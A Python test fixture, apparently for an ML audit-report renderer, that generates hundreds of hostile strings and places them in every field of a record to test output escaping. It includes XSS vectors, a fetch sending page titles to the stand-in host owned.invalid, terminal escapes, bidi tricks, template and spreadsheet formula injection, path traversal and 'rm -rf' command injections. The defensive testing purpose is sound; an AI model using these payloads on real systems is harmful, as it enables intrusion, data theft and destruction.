"""Strings that try to run, to break out, to hide or to flood; and a record that has them in every place."""

from probes.types import Comparison, Curve, Example, Highlight, Highlights, Measurement, Table
from reports.record import (
    AuditRecord,
    DataInfo,
    Environment,
    GroupCount,
    ModelInfo,
    ProbeResult,
    SuiteInfo,
    Verdict,
)

# What a payload does when it runs: everything leaves the same trace.
CODE = (
    "window.owned=1",
    "alert(1)",
    "document.body.innerHTML='owned'",
    "fetch('//owned.invalid/'+document.title)",
)

# Ways to get code from text into a page; {} is the code.
WAYS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<SCRIPT\n>{}</SCRIPT\n>",
    "<script/x>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "</svg><script>{}</script>",
    "</desc></svg><script>{}</script>",
    "<svg><script>{}</script></svg>",
    '<img src=x onerror="{}">',
    "<img src=x onerror={}//",
    "\"><img src=x onerror='{}'>",
    '\'><img src=x onerror="{}">',
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    '" autofocus onfocus="{}" x="',
    "` onclick=`{}",
    '<svg onload="{}">',
    "<svg/onload={}>",
    '<body onload="{}">',
    '<details open ontoggle="{}">x</details>',
    '<video><source onerror="{}"></video>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    '<form action="javascript:{}"><button>x</button></form>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<math href="javascript:{}">x</math>',
    '<svg><animate onbegin="{}" attributeName=x dur=1s></svg>',
    "<svg><foreignObject><script>{}</script></foreignObject></svg>",
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<base href="//owned.invalid/"><script>{}</script>',
    '<link rel=stylesheet href="//owned.invalid/{}">',
    "<style>@import '//owned.invalid/{}';</style>",
    '<input onfocus="{}" autofocus>',
    '<marquee onstart="{}">x</marquee>',
    '<xss style="animation-name:x" onanimationstart="{}">',
    "{{{{ {} }}}}",
    "{{% raw %}}{}{{% endraw %}}",
    "${{{}}}",
    "<%= {} %>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "<ﬆyle><script>{}</script>",
)

# The same by other elements, attributes, contexts and encodings.
FURTHER = (
    "</option></select><script>{}</script>",
    '</option><option value="" onclick="{}">',
    "</output><script>{}</script>",
    "</button><button onclick='{}'>",
    '<button formaction="javascript:{}">x</button>',
    '<label for=filters onclick="{}">x</label>',
    '<input type=image src=x onerror="{}">',
    '<select autofocus onfocus="{}">',
    '<textarea autofocus onfocus="{}">',
    '<keygen autofocus onfocus="{}">',
    '</summary></details><img src=x onerror="{}">',
    '<summary onclick="{}">x</summary>',
    "</bdi></summary><script>{}</script>",
    "</code></pre><script>{}</script>",
    "</text></svg><script>{}</script>",
    "</tspan><script>{}</script>",
    '<svg><set attributeName=href to="javascript:{}"></svg>',
    '<svg><a xlink:href="javascript:{}"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,{}#x"/></svg>',
    "<svg><style>@import '//owned.invalid/{}'</style></svg>",
    "<svg><title><script>{}</script></title></svg>",
    "<svg><![CDATA[<script>{}</script>]]></svg>",
    "<math><mtext></math><script>{}</script>",
    '<math><maction actiontype="statusline#{}" xlink:href="x">x</maction></math>',
    "<noscript><script>{}</script></noscript>",
    "<template><script>{}</script></template>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<plaintext><script>{}</script>",
    "<xmp><script>{}</script></xmp>",
    "<noembed><script>{}</script></noembed>",
    "<noframes><script>{}</script></noframes>",
    "<frameset onload='{}'>",
    '<audio src=x onerror="{}">',
    '<picture><source srcset=x><img onerror="{}" src=x></picture>',
    '<img srcset="x 1x" onerror="{}">',
    '<img src="javascript:{}">',
    '<img lowsrc="javascript:{}">',
    '<table background="javascript:{}">',
    '<td background="javascript:{}">',
    '<div style="background:url(javascript:{})">',
    '<div style="width:expression({})">',
    '<link rel=preload as=script href="//owned.invalid/{}">',
    '<link rel=dns-prefetch href="//owned.invalid/{}">',
    '<portal src="javascript:{}">',
    '<applet code="javascript:{}">',
    '<isindex action="javascript:{}" type=image>',
    '<a ping="//owned.invalid/{}" href="#x">x</a>',
    '<area href="javascript:{}">',
    "<script type=module>{}</script>",
    "<script type=importmap>{{}}</script><script>{}</script>",
    "<script src=data:text/javascript,{}></script>",
    "<script>/*</script><script>*/{}</script>",
    "<!--><script>{}</script>-->",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<?xml version='1.0'?><script>{}</script>",
    "\ufeff<script>{}</script>",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "%3Cscript%3E{}%3C/script%3E",
    "';{};//",
    '";{};//',
    "*/{};/*",
)

# Ways to look like something else, or to break a table.
SHAPES = (
    "",
    " ",
    "F",
    "F ",
    " F",
    "f",
    "F\n",
    "F\t",
    "\ufeffF",
    "F\u200b",
    "F\u200d",
    "\u202eF",
    "\u2066F",
    "F\u0000",
    "F\u001b[2J\u001b[31m",
    "\u001b]8;;http://owned.invalid\u0007F",
    "\u009b31mF",
    "F\r\nG",
    "F\u2028G",
    "F\u2029G",
    "\u00a0F",
    "\u3164",
    "\ud83dF",
    "e" + "\u0301" * 200,
    "א" * 40,
    "مرحبا (1)",
    "漢字" * 30,
    "👩‍👩‍👧",
    "x" * 50_000,
    "x " * 20_000,
    "-" * 300,
    "</td></tr></table>",
    "<tr><td>",
    "</dd></dl>",
    "</details>",
    "<table>",
    "</section></main></body></html>",
    "<!--",
    "[red]F[/red]",
    "[link=http://owned.invalid]F[/link]",
    "%s%n%x",
    "{0.__class__}",
    "{{7*7}}",
    "=cmd|'/c calc'!A1",
    "../../etc/passwd",
    "constructor",
    "__proto__",
)

# The same for what the page got later: its filter, its anchors, its folded parts, its block to copy.
FURTHER_SHAPES = (
    "filters",
    "filtered",
    "gate-1",
    "area-1",
    "#overview",
    "fail",
    'x" data-area="area-1',
    'x" hidden="',
    "' open='",
    "</summary>",
    "</button></output>",
    "# sha256\nrm -rf .",
    "`rm -rf .`",
    "$(rm -rf .)",
    "; rm -rf . #",
    "\u001b]0;title\u0007",
    "\u001b[?1049h",
    "\u001bPq\u001b\\",
    "\u0085F",
    "\u180eF",
    "\u2060F",
    "\U000e0041F",
    "\ufff9F\ufffb",
    "\u202dF\u202c",
    "\u0600F",
)


def corpus() -> tuple[str, ...]:
    """All hostile strings, each once: more than 500."""
    first = [*(way.format(code) for way in WAYS for code in CODE), *SHAPES]
    return tuple(
        dict.fromkeys([*first, *(way.format(code) for way in FURTHER for code in CODE), *FURTHER_SHAPES])
    )


def parts(words: tuple[str, ...], count: int = 4) -> tuple[tuple[str, ...], ...]:
    """The words in so small parts that a page of each shows every one of its words in every place."""
    size = -(-len(words) // count)
    return tuple(words[i : i + size] for i in range(0, len(words), size))


def harmless(count: int) -> tuple[str, ...]:
    """As many strings that do nothing."""
    return tuple(f"name {i:03}." for i in range(count))


def record(words: tuple[str, ...], examples: int = 40) -> AuditRecord:
    """A record with every word as text, label, group, column, metric, key, note, error and more."""
    half = len(words) // 2

    def pick(i: int) -> str:
        return words[i % len(words)]

    def probe(i: int) -> str:
        # Each in an area of its own, whatever the words: the area ends at the first point.
        return pick(i).replace(".", "·")

    def leaf(i: int, feature: str, metric: str) -> Measurement:
        note = pick(i + 3) or "note"
        return Measurement(
            metric, 0.5, 0.4, 0.6, 100, {"feature": feature, "group": words[i]}, note, successes=50
        )

    features = (pick(40) + "a", pick(41) + "b")
    groups = [
        tuple(leaf(i, f, pick(50)) for i in part)
        for f, part in zip(features, (range(half), range(half, len(words))), strict=True)
    ]
    gaps = tuple(
        Measurement(
            pick(60 + i),
            0.1,
            0.0,
            0.2,
            200,
            {"feature": f, pick(70 + i) + "k": pick(80 + i)},
            pick(90 + i),
            comparisons=(Comparison("difference", g),),
        )
        for i, (f, g) in enumerate(zip(features, groups, strict=True))
    )
    undefined = Measurement("undefined", None, None, None, 0, {}, pick(100) or "why")
    cells = tuple((*(pick(k) for k in range(i, i + 7)), 1.5) for i in range(0, min(len(words), 400), 7))
    table = Table(pick(1) + "t", words[:8], cells, pick(2) + "c")
    curve = Curve(pick(3) + "t", pick(4), pick(5), (0.0, 1.0), (0.0, 1.0), caption=pick(6) + "c")
    texts = tuple(
        Example(
            pick(i) + "t",
            tuple((pick(i + k), words[i + k]) for k in range(min(8, len(words) - i))),
            pick(i + 2) + "c",
        )
        for i in range(0, min(len(words), 8 * examples), 8)
    )
    scores = (1.0, -0.5, None, 0.0, 0.2, -1.0, None, 0.3)
    marked = tuple(
        Highlights(
            pick(i) + "t",
            (Highlight(pick(i + 9), tuple(zip(words[i : i + 8], scores, strict=False))),),
            pick(i + 2) + "c",
            upwards=pick(i + 3),
            downwards=pick(i + 4),
        )
        for i in range(0, min(len(words), 8 * examples), 8)
    )
    results = (
        ProbeResult(
            probe=probe(11),
            version=1,
            title=pick(12) + "t",
            status="ok",
            parameters={w + "=": [w, {w + "=": w}] for w in words[:20]},
            measurements=(*groups[0], *groups[1], *gaps, undefined),
            exhibits=(table, curve, *texts, *marked),
        ),
        *(
            ProbeResult(
                probe=probe(i),
                version=1,
                title=pick(i + 1) + "t",
                status=("skipped", "failed")[i % 2],
                reason=w + "!",
            )
            for i, w in enumerate(words)
        ),
    )
    verdicts = tuple(
        Verdict(
            gate=pick(i),
            outcome=("fail", "undecided", "pass")[i % 3],
            reason=pick(i + 5),
            probe=probe(11),
            metric=gaps[i % 2].metric if i < 6 else pick(i) + "m",
            slice=dict(gaps[i % 2].slice) if i < 6 else {pick(i + 1) + "k": pick(i)},
            limit=0.1,
            at_most=True,
            value=0.1,
            low=0.0,
            high=0.2,
        )
        for i in range(min(len(words), 140))
    )
    return AuditRecord(
        tool_version=pick(7),
        command=pick(8) + "x",
        exit_code=1,
        verdicts=verdicts,
        results=results,
        model=ModelInfo(
            reference=pick(9),
            kind="transformers",
            fingerprint=pick(10) + "f",
            architecture=pick(13) + "a",
            classes=words[20:30],
            device=pick(14) + "d",
            dtype=pick(15) + "d",
        ),
        data=DataInfo(
            source=pick(16),
            fingerprint=pick(17),
            rows=10,
            labels={w + "=": i for i, w in enumerate(words[:140])},
            warnings=words,
            groups={
                f: tuple(GroupCount(group=m.slice["group"], rows=3) for m in g)
                for f, g in zip(features, groups, strict=True)
            },
        ),
        shift={
            w: DataInfo(source=w, fingerprint=w + "f", rows=4, warnings=words[:3]) for w in words[100:110]
        },
        suite=SuiteInfo(
            names=words[:5],
            probes=words[5:9],
            gates=words[:140],
            alpha=0.05,
            confidence=0.95,
            positive=pick(18),
            seed=0,
        ),
        environment=Environment(
            python=pick(19), platform=pick(20), packages={w + "=": w for w in words[:140]}
        ),
        training={
            "list": list(words[30:50]),
            "rows": [{"a": w, "b": w} for w in words[50:80]],
            "deep": {"a": {"b": {"c": {"d": {"e": {"f": words[0]}}}}}},
        }
        | {w + "=": w for w in words[:140]},
    )
